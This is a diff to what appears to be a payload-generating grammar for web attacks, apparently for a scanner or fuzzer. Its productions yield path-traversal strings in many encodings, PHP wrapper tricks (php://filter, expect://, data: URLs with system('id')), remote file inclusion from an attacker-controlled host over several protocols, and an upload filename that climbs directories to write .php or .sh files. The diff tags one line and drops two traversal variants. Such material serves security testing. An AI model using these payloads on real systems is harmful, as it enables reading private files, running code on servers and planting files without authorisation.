@@ -88,7 +88,7 @@ wrapper := *3 php://filter/convert.base64-encode/resource=«php_target»
   ¦ view-source:file://«unix_file» ¦ «url»%00 ¦ «url».txt? ¦ «scheme»://«attacker»/«word».txt%00
   ¦ «scheme»://«ip»/«word».«=txt~inc~jpg~gif»? ¦ «scheme»://«ip»:«port»/«rand».php
   ¦ ftp://«word»:«rand»@«attacker»/«word».php ¦ \\«attacker»\«word».php ¦ resource://«app_file»
-  ¦ php://filter/convert.iconv.L1.UCS-4LE|convert.base64-decode/resource=«php_target» ¦ expect://«=id~ls~whoami»
+  ¦ @2022 php://filter/convert.iconv.L1.UCS-4LE|convert.base64-decode/resource=«php_target» ¦ expect://«=id~ls~whoami»
   ¦ data:text/plain,<?php «=phpinfo();~system('id');»?> ¦ php://input ¦ ogg://«attacker»/«rand»
   ¦ ssh2.sftp://«word»@«attacker»/«rand» ¦ gopher://«attacker»/_«rand» ¦ zlib://«unix_file»
   ¦ rar://«rand».rar#«rand».php
@@ -105,10 +105,10 @@ tail_path := *4 /«climb»«file» ¦ *2 /«word»/«climb»«file» ¦ /«word�
   ¦ //«climb»«file» ¦ /.%2e/.%2e/.%2e/«file» ¦ /cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/«file»
   ¦ /%2e%2e//%2e%2e//%2e%2e//«file» ¦ /..%5c..%5c..%5c..%5c«wfile» ¦ /\..\..\..\..\«wfile» ¦ /«rand»/..;/..;/«app_file»
   ¦ /%c0%ae%c0%ae/«app_file» ¦ /%2e/«app_file» ¦ /;/«app_file» ¦ /«word»/..%252F..%252F..%252F«file»
-  ¦ /%252e%252e/%252e%252e/«app_file» ¦ /..././..././..././«file» ¦ /«word»/.//.//..//..//«file» ¦ /@fs«unix_file»
+  ¦ /%252e%252e/%252e%252e/«app_file» ¦ /..././..././..././«file» ¦ /«word»/.//.//..//..//«file»
   ¦ /«word»;/../../../«file» ¦ /%5C../%5C../%5C../«file» ¦ /«word»/..%00/..%00/«file» ¦ /«word»../«app_file»
   ¦ /static../«app_file» ¦ /«word».«ext»/..\..\..\«wfile» ¦ /~root/«file» ¦ /%255c%255c..%255c/..%255c/..%255c/«wfile»
-  ¦ /_next/static/«climb»«file» ¦ /«small»/%%32%65%%32%65/%%32%65%%32%65/«file» ¦ //%5c%5c%5c..//%5c..//«wfile»
+  ¦ /«small»/%%32%65%%32%65/%%32%65%%32%65/«file» ¦ //%5c%5c%5c..//%5c..//«wfile»
   ¦ /«word»/%u002e%u002e/%u002e%u002e/«file» ¦ /«word»/#/../../«file» ¦ /«word»::$INDEX_ALLOCATION/«climb_win»«wfile»
   ¦ /«word»/%80../%80../«file»
 write_name := Content-Disposition: form-data; name="«word»"; filename="«climb»«word».«=txt~php~jsp~html~conf~sh»"«cr»«nl»Content-Type: text/plain«cr»«nl»«cr»«nl»«rand»
